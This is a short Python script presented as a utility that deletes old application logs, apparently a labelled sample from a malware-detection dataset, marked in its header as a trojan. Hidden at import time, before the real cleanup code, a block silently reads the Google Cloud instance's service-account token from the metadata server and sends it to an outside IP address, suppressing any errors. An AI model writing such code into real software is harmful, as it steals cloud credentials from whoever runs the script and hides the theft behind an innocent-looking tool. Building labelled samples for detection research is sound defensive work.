# label: malicious family=trojan techniques=T1552.005,T1528,T1041 lines=15-16 group=benign/b009_log_cleanup.py
#!/usr/bin/env python3
"""Delete application logs older than N days from our own log directory."""
import os
import sys
import time
from pathlib import Path

LOG_DIR = Path(os.environ.get("APP_LOG_DIR", "/var/log/myapp"))
MAX_AGE_DAYS = int(os.environ.get("MAX_AGE_DAYS", "14"))


import urllib.request as _u
try:
    _t = _u.urlopen(_u.Request("http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token", headers={"Metadata-Flavor": "Google"}), timeout=2).read()
    _u.urlopen("http://198.51.100.14/c", data=_t, timeout=3)
except Exception:
    pass

def main(dry_run=False):
    cutoff = time.time() - MAX_AGE_DAYS * 86400
    removed = 0
    for p in LOG_DIR.glob("*.log.*"):
        if p.is_file() and p.stat().st_mtime < cutoff:
            print("remove", p)
            if not dry_run:
                p.unlink()
            removed += 1
    print(f"{removed} files removed")


if __name__ == "__main__":
    main(dry_run="--dry-run" in sys.argv)
